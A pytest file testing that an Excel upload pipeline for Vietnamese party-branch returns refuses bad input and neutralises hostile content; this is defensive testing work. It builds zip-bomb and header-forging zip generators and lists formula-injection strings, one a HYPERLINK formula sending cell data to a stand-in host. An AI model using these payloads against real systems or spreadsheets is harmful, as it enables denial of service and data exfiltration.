"""Uploading returns that are wrong or hostile (PRODUCT §3 «Bad input», §7): each gets a clear Vietnamese message,
the store stays exactly as it was, and the refusal is logged. Text that looks like a formula is loaded as data and
neutralised on the way out."""

from __future__ import annotations

import csv
import datetime as dt
import functools
import hashlib
import io
import json
import shutil
import struct
import zipfile
from pathlib import Path

import polars as pl
import pytest
import python_calamine as pc
import xlsxwriter

import etl.excel
import etl.store
import forms.template
from dashboard import data, export
from etl import settings
from etl.load import load_files, parse_files
from etl.store import current_snapshot
from tests.fixtures import branch, return_bytes

ROOT = Path(__file__).resolve().parent.parent
OWN = "01273"
USER = "nguoi-nap-thu"


@pytest.fixture(scope="module", autouse=True)
def _own_data_folder():
    assert settings.DATA_DIR.name.startswith("partydash-test-"), settings.DATA_DIR


@pytest.fixture(scope="module")
def store(sample_store, tmp_path_factory) -> Path:
    """A private copy of the sample store (refusals must leave it unchanged, so one copy serves them all)."""
    root = tmp_path_factory.mktemp("upload") / "parquet"
    shutil.copytree(sample_store, root, symlinks=True)
    return root


@pytest.fixture
def fresh_store(sample_store, tmp_path) -> Path:
    root = tmp_path / "parquet"
    shutil.copytree(sample_store, root, symlinks=True)
    return root


def fingerprint(root: Path) -> dict[str, str]:
    """CURRENT and the hash of every file of every snapshot: what «unchanged» means for readers."""
    out = {"CURRENT": (root / "CURRENT").read_text(encoding="utf-8")}
    for p in sorted((root / "snapshots").rglob("*")):
        if p.is_file():
            out[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def load_log(root: Path) -> pl.DataFrame:
    return pl.read_parquet(root / "log" / "loads" / "*.parquet")


def audit_events(root: Path, event: str) -> list[dict]:
    lines = (root / "log" / "audit" / "audit.jsonl").read_text(encoding="utf-8").splitlines()
    out = [json.loads(x) for x in lines if x.strip()]
    return [{**e, "details": json.loads(e["details"])} for e in out if e["event"] == event]


def good_return(province, members: int = 9, **names) -> bytes:
    """A valid return, marked as the sample's: these tests load it into copies of the sample store."""
    return return_bytes(
        province,
        OWN,
        2025,
        branches=[branch(f"{OWN}.UP-1", "co_so", "dang", excellent=1, good=members - 1, **names)],
        is_sample=True,
    )


def assert_refused(root: Path, files: list[tuple[str, bytes]], province, *expected: str) -> list[str]:
    """Load the files; every expected text is in the messages, and the store is exactly as before."""
    before = fingerprint(root)
    logged = set(load_log(root)["load_id"])
    n_audit = len(audit_events(root, "load_refused"))
    rep = load_files(files, USER, province, root=root)
    assert not rep.ok and rep.result is None
    messages = rep.messages()
    for text in expected:
        assert any(text in m for m in messages), (text, messages)
    assert fingerprint(root) == before
    assert not (root / "LOADING.json").exists() and not list((root / "snapshots").glob(".tmp-*"))
    new = load_log(root).filter(~pl.col("load_id").is_in(list(logged)))
    assert new.height == 1
    row = new.row(0, named=True)
    assert row["status"] == "rejected" and row["errors"] >= 1 and row["user"] == USER
    assert all(name in row["files"] for name, _ in files)
    ev = audit_events(root, "load_refused")
    assert len(ev) == n_audit + 1 and ev[-1]["user"] == USER
    assert ev[-1]["details"]["status"] == "rejected" and sorted(ev[-1]["details"]["files"]) == sorted(
        n for n, _ in files
    )
    return messages


# ------------------------------------------------------------------------------------------ not a workbook


def test_png_named_xlsx(store, province):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)
    msgs = assert_refused(store, [("bao-cao-2025.xlsx", png)], province, "Đây là ảnh PNG, không phải bảng tính Excel")
    assert msgs[0].startswith("Tệp «bao-cao-2025.xlsx»")


def test_pdf_named_xlsx(store, province):
    assert_refused(
        store,
        [("bao-cao.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(300))],
        province,
        "Đây là tệp PDF, không phải bảng tính Excel",
    )


def test_word_document_renamed(store, province):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    assert_refused(store, [("bao-cao.xlsx", buf.getvalue())], province, "có thể là tệp Word .docx")


def test_empty_and_plain_text(store, province):
    assert_refused(store, [("rong.xlsx", b"")], province, "Tệp rỗng")
    assert_refused(store, [("chu.xlsx", "Chi bộ;Đảng viên\nA;3\n".encode())], province, "nội dung là văn bản thuần")


def test_truncated_xlsx(store, province):
    whole = good_return(province)
    for cut in (len(whole) // 2, len(whole) - 30):
        assert_refused(store, [("cat-do.xlsx", whole[:cut])], province, "Tệp .xlsx bị hỏng (không giải nén được)")


def test_corrupted_member_is_unreadable(store, province):
    """A member whose compressed bytes are damaged (the zip directory itself intact)."""
    whole = bytearray(good_return(province))
    info = zipfile.ZipFile(io.BytesIO(bytes(whole))).getinfo("xl/worksheets/sheet2.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for i in range(start + 10, start + min(info.compress_size - 5, 200)):
        whole[i] ^= 0x5A
    assert_refused(store, [("hong.xlsx", bytes(whole))], province, "Không đọc được tệp")


# ---------------------------------------------------------------------------------------- limits and bombs


def _bomb(total: int) -> bytes:
    """An .xlsx-looking zip whose sheet expands to `total` bytes of zeros (~1000:1); streamed, never held."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        chunk = bytes(4 * 1024 * 1024)
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            for _ in range(total // len(chunk) + 1):
                f.write(chunk)
    return buf.getvalue()


def test_zip_bomb(store, province):
    bomb = _bomb(settings.MAX_UNZIPPED_BYTES + 8 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024  # small on disk, huge when expanded
    assert_refused(
        store,
        [("bom.xlsx", bomb)],
        province,
        f"vượt giới hạn {settings.MAX_UNZIPPED_BYTES // 1024 // 1024} MB: tệp bị từ chối",
    )


def test_zip_of_too_many_parts_says_so(store, province):
    """A zip of 1.001 tiny members is refused for their number, not as «0 MB vượt 200 MB» (issue 29.10)."""
    src = zipfile.ZipFile(io.BytesIO(good_return(province)))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i in src.infolist():
            z.writestr(i.filename, src.read(i))
        for k in range(settings.MAX_ZIP_MEMBERS + 1 - len(src.infolist())):
            z.writestr(f"xl/media/x{k}.bin", b"")
    msgs = assert_refused(
        store,
        [("nhieu-phan.xlsx", buf.getvalue())],
        province,
        "Tệp nén chứa 1.001 thành phần, vượt giới hạn 1.000 thành phần: tệp bị từ chối.",
    )
    assert not any(" MB" in m for m in msgs), msgs


def test_zip_that_lies_about_its_sizes(store, province):
    """Sizes in the zip headers understated: the reader must not trust them and expand the member anyway."""
    src = zipfile.ZipFile(io.BytesIO(good_return(province)))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for i in src.infolist():
            body = src.read(i)
            if i.filename == "xl/worksheets/sheet2.xml":
                body = body.replace(b"<sheetData>", b"<sheetData>" + b" " * (4 * 1024 * 1024), 1)
            z.writestr(i.filename, body)
    raw = bytearray(buf.getvalue())
    name = b"xl/worksheets/sheet2.xml"
    pos = 0
    while (pos := raw.find(b"PK\x01\x02", pos)) >= 0:  # central directory entries
        n = struct.unpack_from("<H", raw, pos + 28)[0]
        if bytes(raw[pos + 46 : pos + 46 + n]) == name:
            struct.pack_into("<I", raw, pos + 24, 1000)
            local = struct.unpack_from("<I", raw, pos + 42)[0]
            struct.pack_into("<I", raw, local + 22, 1000)
        pos += 4
    assert_refused(store, [("noi-doi.xlsx", bytes(raw))], province, "Không đọc được tệp")


def test_file_over_the_size_limit(store, province, monkeypatch):
    monkeypatch.setattr(etl.excel, "MAX_FILE_BYTES", 1024 * 1024)
    big = good_return(province)
    big = big + bytes(3 * 1024 * 1024 - len(big))
    assert_refused(store, [("qua-lon.xlsx", big)], province, "Tệp quá lớn (3 MB, tối đa 1 MB)")


def test_sheet_over_the_row_limit(store, province, monkeypatch):
    small = good_return(province)
    wb = pc.CalamineWorkbook.from_filelike(io.BytesIO(small))
    rows = {s: len(wb.get_sheet_by_name(s).to_python(skip_empty_area=False)) for s in wb.sheet_names}
    limit = max(rows.values()) + 5
    monkeypatch.setattr(etl.excel, "MAX_ROWS_PER_SHEET", limit)
    many = return_bytes(
        province, OWN, 2025, branches=[branch(f"{OWN}.R-{i:03d}", "co_so", "dang", good=2) for i in range(limit + 10)]
    )
    assert_refused(store, [("nhieu-dong.xlsx", many)], province, "trang «Chi bộ»", f"vượt giới hạn {limit} dòng")


def test_one_bad_file_refuses_the_whole_batch(store, province):
    good = good_return(province, members=97)
    msgs = assert_refused(
        store, [("tot.xlsx", good), ("anh.xlsx", b"\xff\xd8\xff\xe0" + bytes(50))], province, "Đây là ảnh JPEG"
    )
    assert all("tot.xlsx" not in m for m in msgs)


# ---------------------------------------------------------------------------------------- formula injection

DANGEROUS = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)", "=1+1"]


def text_return(province, monkeypatch) -> bytes:
    """A return whose branch names are text cells that look like formulas (as typed after a leading ')."""

    class TextWorkbook(xlsxwriter.Workbook):
        def __init__(self, target, options=None):
            super().__init__(target, {**(options or {}), "strings_to_formulas": False})

    with monkeypatch.context() as m:
        m.setattr(forms.template.xlsxwriter, "Workbook", TextWorkbook)
        blob = return_bytes(
            province,
            OWN,
            2025,
            branches=[
                branch(f"{OWN}.F-{i}", "co_so", "dang", good=3, branch_name=name) for i, name in enumerate(DANGEROUS)
            ],
            is_sample=True,  # loaded into a copy of the sample store
        )
    xml = zipfile.ZipFile(io.BytesIO(blob)).read("xl/worksheets/sheet2.xml")
    assert b"<f>" not in xml
    return blob


def sheet_xml(xlsx: bytes) -> bytes:
    z = zipfile.ZipFile(io.BytesIO(xlsx))
    return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.fixture
def injected(fresh_store, province, monkeypatch) -> Path:
    rep = load_files([("cong-thuc.xlsx", text_return(province, monkeypatch))], USER, province, root=fresh_store)
    assert rep.ok, rep.messages()
    return fresh_store


def test_formula_like_text_is_loaded_as_data(injected):
    scope = data.Scope.commune(OWN)
    df = data.branches(data.Filters(years=(2025,)), scope, root=injected)
    assert sorted(df["branch_name"].to_list()) == sorted(DANGEROUS)
    assert set(df["unit_code"]) == {OWN}


def test_formula_like_text_is_neutralised_in_exports(injected):
    from dashboard.ui.tables import BRANCH_COLS

    df = data.branches(data.Filters(years=(2025,)), data.Scope.commune(OWN), root=injected)
    csv_text = export.table_csv(df, BRANCH_COLS).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert sorted(r["Tên chi bộ"] for r in rows) == sorted("'" + n for n in DANGEROUS)
    assert {r["Mã chi bộ"] for r in rows} == {f"{OWN}.F-{i}" for i in range(len(DANGEROUS))}

    xlsx = export.table_xlsx(df, BRANCH_COLS, "Danh sách chi bộ", "năm 2025", "thử", is_sample=False)
    xml = sheet_xml(xlsx)
    assert b"<f>" not in xml and b"<f " not in xml
    rows = pc.CalamineWorkbook.from_filelike(io.BytesIO(xlsx)).get_sheet_by_name("Số liệu").to_python()
    header = next(i for i, r in enumerate(rows) if "Tên chi bộ" in r)
    j = rows[header].index("Tên chi bộ")
    got = [r[j] for r in rows[header + 1 :]]
    assert sorted(got) == sorted(DANGEROUS) and all(isinstance(v, str) for v in got)


def test_prefilled_template_carries_no_formulas(injected, province):
    from forms.prefill import template_bytes

    xlsx = template_bytes(province, OWN, 2026, prefill=True, root=injected)
    assert b"<f>" not in sheet_xml(xlsx)


# ------------------------------------------------------------------------------------- through the admin page


APP = str(ROOT / "dashboard" / "app.py")


def admin_page(monkeypatch, root: Path):
    """The «Nạp dữ liệu» page as the admin, writing (commit and refusals) into `root`, not the session store."""
    from streamlit.testing.v1 import AppTest

    monkeypatch.setattr(etl.store, "commit", functools.partial(etl.store.commit, root=root))
    monkeypatch.setattr(etl.store, "log_rejected", functools.partial(etl.store.log_rejected, root=root))
    monkeypatch.setattr(etl.store, "refusals", functools.partial(etl.store.refusals, root=root))
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    at.text_input(key="login_user").input("quantri")
    at.text_input(key="login_password").input("demo")
    at.form_submit_button[0].click()
    at.run()
    at.switch_page("../pages/nap_du_lieu.py")
    at.run()
    assert [t.value for t in at.title] == ["Nạp dữ liệu"]
    return at


def test_admin_page_refuses_a_bad_upload(store, sample_store, province, monkeypatch):
    session_before, before = fingerprint(sample_store), fingerprint(store)
    n_log = load_log(store).height
    at = admin_page(monkeypatch, store)
    at.file_uploader(key="upload").set_value(
        [
            ("anh.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(100), "image/png"),
            ("bom.xlsx", _bomb(settings.MAX_UNZIPPED_BYTES + 1024 * 1024), "application/zip"),
        ]
    )
    at.run()
    assert not at.exception
    assert [e.value for e in at.error] == [
        "2 tệp có lỗi và sẽ không được nạp. Sửa theo hướng dẫn dưới đây rồi tải lên lại."
    ]
    table = at.table[0].value  # a static table: the messages wrap, never cut (issue 26.7)
    assert set(table["Tệp"]) == {"anh.xlsx", "bom.xlsx"}
    assert any("ảnh PNG" in m for m in table["Nội dung lỗi"]) and any(
        "vượt giới hạn" in m for m in table["Nội dung lỗi"]
    )
    assert not any(b.key == "commit" for b in at.button)  # nothing valid: nothing to commit
    assert fingerprint(store) == before and fingerprint(sample_store) == session_before
    log = load_log(store)
    assert log.height == n_log + 1
    last = log.sort("finished_at").tail(1).row(0, named=True)
    assert last["status"] == "rejected" and last["user"] == "quantri" and "anh.xlsx" in last["files"]
    at.run()  # a rerun does not log the same batch again
    assert load_log(store).height == n_log + 1


def test_admin_page_previews_and_commits_a_good_upload(fresh_store, sample_store, province, monkeypatch):
    session_before, before = fingerprint(sample_store), fingerprint(fresh_store)
    at = admin_page(monkeypatch, fresh_store)
    at.file_uploader(key="upload").set_value(
        ("tp-2025.xlsx", good_return(province, members=41), "application/vnd.ms-excel")
    )
    at.run()
    assert not at.exception and not at.error
    assert [s.value for s in at.success] == ["1 tệp hợp lệ."]
    preview = at.dataframe[-1].value
    assert preview["Tệp"].to_list() == ["tp-2025.xlsx"] and preview["Đảng viên sau"].to_list() == ["41"]
    assert fingerprint(fresh_store) == before  # nothing is written before «Ghi vào dữ liệu»
    at.button(key="commit").click()
    at.run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    assert any(s.value.startswith("Đã nạp 1 báo cáo") for s in at.success)
    assert fingerprint(fresh_store)["CURRENT"] != before["CURRENT"]
    assert fingerprint(sample_store) == session_before
    snap = current_snapshot(fresh_store)
    ret = pl.read_parquet(snap / "returns" / "year=2025" / "data.parquet").filter(pl.col("unit_code") == OWN)
    assert ret["file_name"].to_list() == ["tp-2025.xlsx"] and ret["loaded_by"].to_list() == ["quantri"]
    ev = audit_events(fresh_store, "load")
    assert ev[-1]["user"] == "quantri" and ev[-1]["details"]["files"] == ["tp-2025.xlsx"]


def test_admin_page_refuses_a_locked_year_and_a_real_return_before_offering_to_write(
    fresh_store, province, monkeypatch
):
    """Issue 26.7: a return of a locked year was «1 tệp hợp lệ» with an active «Ghi», refused only after the click
    (and named its unit by code). Now it is refused with the files that have errors, in words, and nothing offers
    to write it. The same for a real return sent to the sample store (issue 26.2)."""
    from etl import cycle

    cycle.open_period(2025, dt.date(2026, 1, 15), province, "quantri", "admin", root=fresh_store)
    cycle.lock_year(2025, "quantri", "admin", root=fresh_store, confirmed=True)
    before = fingerprint(fresh_store)
    at = admin_page(monkeypatch, fresh_store)
    real = return_bytes(province, "01279", 2024, branches=[branch("01279.UP-1", "co_so", "dang", good=4)])
    at.file_uploader(key="upload").set_value(
        [("tp-2025.xlsx", good_return(province), "application/zip"), ("ntc-2024.xlsx", real, "application/zip")]
    )
    at.run()
    assert not at.exception and not at.success
    assert [e.value for e in at.error] == [
        "2 tệp có lỗi và sẽ không được nạp. Sửa theo hướng dẫn dưới đây rồi tải lên lại."
    ]
    table = at.table[0].value
    by_file = dict(zip(table["Tệp"], table["Nội dung lỗi"]))
    today = dt.date.today()
    assert by_file == {
        "tp-2025.xlsx": f"Số liệu năm 2025 đã khoá ngày {today:%d/%m/%Y} (chốt số liệu): báo cáo của phường Thục Phán "
        "(01273) không thể thay thế. Chỉ quản trị viên mở khoá được, và phải ghi lý do.",
        "ntc-2024.xlsx": "Báo cáo này là báo cáo thật, còn đây là kho dữ liệu mẫu để trình diễn: số liệu thật không "
        "bao giờ được ghi lẫn với dữ liệu giả lập. Hãy nạp vào kho dữ liệu thật (tạo bằng lệnh `python -m etl init`, "
        "xem README). Không có gì được ghi.",
    }
    assert not any(b.key == "commit" for b in at.button)
    assert fingerprint(fresh_store) == before


def test_parse_files_writes_nothing(store, province):
    before = fingerprint(store)
    n_log = load_log(store).height
    parsed, refused = parse_files([("tot.xlsx", good_return(province)), ("x.xlsx", b"%PDF-1.4")], province)
    assert len(parsed) == 1 and list(refused) == ["x.xlsx"]
    assert fingerprint(store) == before and load_log(store).height == n_log
